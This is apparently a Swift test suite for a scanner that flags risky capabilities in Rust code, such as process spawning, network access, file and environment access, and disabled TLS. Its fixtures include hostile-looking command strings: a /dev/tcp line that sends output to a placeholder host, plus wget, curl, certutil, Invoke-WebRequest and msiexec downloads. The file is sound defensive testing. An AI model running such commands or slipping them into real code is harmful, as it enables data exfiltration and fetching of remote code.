import MoatInspection
import Testing

@Suite struct `marks of paths` {
  struct Case: CustomTestStringConvertible {
    let code: String
    let marks: [String]
    var dependencies: [String] = []
    var testDescription: String { code }

    init(_ code: String, _ marks: [String], dependencies: [String] = []) {
      self.code = code
      self.marks = marks
      self.dependencies = dependencies
    }
  }

  static let cases = [
    Case(
      "use std::process::Command as C; fn f() { C::new(\"sh\"); }",
      ["process: std::process::Command::new(\"sh\")"]),
    Case(
      "use std::{net::{self, TcpStream as T}}; fn f() { T::connect(\"x:1\"); net::UdpSocket::bind(a); }",
      ["net: std::net::TcpStream::connect(\"x:1\")", "net: std::net::UdpSocket::bind"]),
    Case("fn f() { ::std::fs::write(p, b); }", ["file-write: std::fs::write"]),
    Case("fn f() { std::fs::File::open(p); }", ["file-read: std::fs::File::open"]),
    Case("fn f() { <std::process::Command>::new(p); }", ["process: std::process::Command::new"]),
    Case("mac! { std::process::Command::new(x) }", ["process: std::process::Command::new"]),
    Case(
      "macro_rules! m { () => { ::std::process::Command::new(\"a\") } }",
      ["process: std::process::Command::new(\"a\")"]),
    Case("type Run = std::process::Command;", ["process: std::process::Command"]),
    Case("pub use std::process::Command as Run;", ["process: std::process::Command"]),
    Case(
      "use std::os::unix::fs::PermissionsExt;", ["permissions: std::os::unix::fs::PermissionsExt"]),
    Case(
      "use std::process::*; fn f() { Command::new(x); }",
      ["process: std::process::Command::new"]),
    Case("fn f() { r#std::r#process::Command::new(x); }", ["process: std::process::Command::new"]),
    Case("fn f() { std::env::vars(); }", ["env-all: std::env::vars"]),
    Case("fn f() { std::env::set_var(\"A\", b); }", ["env-write: std::env::set_var(\"A\")"]),
    Case("fn f() { std::env::temp_dir(); }", ["outside-path: std::env::temp_dir"]),
    Case("fn f() { libc::execve(a, b, c); }", ["process: libc::execve"], dependencies: ["libc"]),
    Case(
      "use windows_sys::Win32::System::Threading::CreateProcessW; fn f() { unsafe_(CreateProcessW(a)); }",
      ["process: windows_sys::Win32::System::Threading::CreateProcessW"],
      dependencies: ["windows-sys"]),
    Case("fn f() { reqwest::get(u); }", ["net: reqwest::get"], dependencies: ["reqwest"]),
    Case(
      "fn f() { web::get(u); }", ["net: reqwest::get"],
      dependencies: ["web = { package = \"reqwest\", version = \"1\" }"]),
    Case(
      "fn f() { walkdir::WalkDir::new(p); }", ["dir-walk: walkdir::WalkDir::new"],
      dependencies: ["walkdir"]),
    Case(
      "fn f() { whoami::username(); }", ["host-trigger: whoami::username"], dependencies: ["whoami"]
    ),
    Case("fn f() { base64::decode(x); }", ["decode: base64::decode"], dependencies: ["base64"]),
    Case(
      "fn f() { c.set_verify(openssl::ssl::SslVerifyMode::NONE); }",
      ["net: openssl::ssl::SslVerifyMode::NONE", "tls-off: openssl::ssl::SslVerifyMode::NONE"]
        .filter { $0.hasPrefix("tls") }, dependencies: ["openssl"]),
  ]

  @Test(arguments: cases)
  func `says what a path does`(_ example: Case) {
    #expect(Snippet.said(example.code, dependencies: example.dependencies) == example.marks)
  }

  static let quiet: [(String, [String])] = [
    // Words are no paths.
    ("// std::process::Command\n/// std::net::TcpStream\n/* libc::fork */ fn f() {}", []),
    ("fn f() { let s = \"std::process::Command\"; }", []),
    ("fn f() { curl_sys::curl_easy_init_x(); }", ["curl-sys"]),
    ("fn f() { u32::from_str_radix(x, 16); }", []),
    // Nothing that runs or opens.
    ("fn f() { std::process::exit(1); std::process::abort(); std::process::id(); }", []),
    ("use std::net::{IpAddr, Ipv4Addr, SocketAddr}; fn f(a: IpAddr) {}", []),
    ("fn f() { thread.spawn(g); child.kill(); x.exec(); }", []),
    ("use std::env; use std::process; fn f() { env::args(); process::exit(1); }", []),
    // Names of the crate's own.
    ("mod open { pub fn that() {} } fn f() { open::that(); }", []),
    ("mod process { pub struct Command; } use process::Command; fn f() { Command::new(); }", []),
    ("struct Command; fn f() { Command::new(\"sh\"); }", []),
    // Not a dependency: what is called so is something else.
    ("fn f() { reqwest::get(u); home::home_dir(); }", []),
    ("fn f() { base64::encode(x); }", ["base64"]),
  ]

  @Test(arguments: quiet)
  func `says nothing of`(_ code: String, _ dependencies: [String]) {
    #expect(Snippet.said(code, dependencies: dependencies) == [])
  }

  @Test func `a mark tells its place, its alias, its conditions and its argument`() throws {
    let marks = Snippet.marks(
      """
      use std::process::Command as Run;
      #[cfg(windows)]
      mod a {
        #[cfg(test)]
        mod b {
          fn f() { super::super::Run::new("cmd.exe"); }
        }
      }
      """)
    let mark = try #require(marks.first)
    #expect(marks.count == 1)
    #expect((mark.line, mark.column) == (6, 14))
    #expect(mark.via == "`Run` is `std::process::Command` (line 1)")
    #expect(mark.gates == ["windows", "test"])
    #expect(mark.isTest)
    #expect(mark.argument == "cmd.exe")
  }

  @Test func `calls are all marked, mentions once`() {
    let said = Snippet.said(
      """
      use std::process::Command;
      fn f(a: &mut Command) { Command::new(x); }
      fn g(a: &mut Command) { Command::new(x); }
      """)
    #expect(
      said == [
        "process: std::process::Command", "process: std::process::Command::new",
        "process: std::process::Command::new",
      ])
  }

  @Test func `the argument may be a constant, a concat! or behind type arguments`() {
    let marks = Snippet.marks(
      """
      use std::process::Command;
      const SHELL: &str = "sh";
      fn f() {
        Command::new(SHELL);
        Command::new(concat!("ba", "sh"));
        Command::new::<&str>("zsh");
        Command::new(&"dash");
        Command::new(program());
      }
      """)
    #expect(marks.map(\.argument) == ["sh", "bash", "zsh", "dash", nil])
  }

  @Test(arguments: [
    (".args([\"clone\", \"--depth=1\"]).status()", "git clone"),
    (".arg(\"-q\").arg(\"fetch\").status()", "git fetch"),
    (".args([\"rev-parse\", \"HEAD\"]).output()", "git"),
    (".args([\"submodule\", \"update\", \"--init\"]).status()", "git"),
    (".arg(\"describe\").output(); } fn g() { h(\"clone\")", "git"),
    (".arg(\"describe\").output(); other::new(\"clone\")", "git"),
  ])
  func `what git is told to do`(_ rest: String, _ argument: String) {
    let marks = Snippet.marks("fn f() { std::process::Command::new(\"git\")\(rest); }")
    #expect(marks.map(\.argument) == [argument])
    #expect(marks.map(\.subject) == ["std::process::Command::new(\"git\")"])
  }

  @Test(arguments: [
    ("sh", ".args([\"-c\", \"git clone https://h.invalid/r\"])", "git clone"),
    ("bash", ".arg(\"-c\").arg(\"set -e; cd x && git -C y -c a=b fetch origin\")", "git fetch"),
    ("sh", ".arg(\"-c\").arg(format!(\"A=1 curl -o {} {}\", a, b))", "curl"),
    ("sh", ".arg(\"-c\").arg(SCRIPT)", "wget"),
    ("cmd", ".args([\"/C\", \"if exist a ( certutil.exe -urlcache )\"])", "certutil"),
    ("powershell", ".args([\"-Command\", \"Invoke-WebRequest $u\"])", "invoke-webrequest"),
    ("env", ".args([\"git\", \"clone\", u])", "git clone"),
    ("sh", ".arg(\"-c\").arg(\"echo curl; command -v wget; git rev-parse HEAD\")", "sh -c"),
    ("sh", ".arg(\"-c\").arg(body)", "sh"), ("bash", ".args([\"-c\", \"id >/dev/tcp/h/1\"])", "nc"),
    ("python3", ".args([\"-m\", \"pip\", \"install\", \"x\"])", "pip install"),
    ("python3", ".args([\"-c\", \"import urllib.request\"])", "python3 urllib"),
    ("python3", ".args([\"-c\", \"print(1)\"])", "python3 -c"),
    ("npm", ".arg(\"run\").arg(\"build\")", "npm"), ("npm", ".arg(\"ci\")", "npm ci"),
    ("msiexec", ".arg(\"https://h.invalid/x\")", "msiexec https://"),
    ("xdg-open", ".arg(\"https://h.invalid/x\")", "xdg-open"),
    ("sh", ".arg(\"configure\").arg(\"--with-curl=curl\")", "sh"),
    ("sh", ".arg(\"configure\").arg(\"curl\")", "sh"),
    ("make", ".arg(\"curl\")", "make"),
  ])
  func `what a shell is told to run`(_ shell: String, _ rest: String, _ argument: String) {
    let marks = Snippet.marks(
      """
      const SCRIPT: &str = "mkdir -p out
        wget -q https://h.invalid/r";
      fn f() { std::process::Command::new("\(shell)")\(rest).status(); }
      """)
    #expect(
      marks.filter { $0.capability == .process }.map { $0.argument?.lowercased() } == [argument])
  }
}
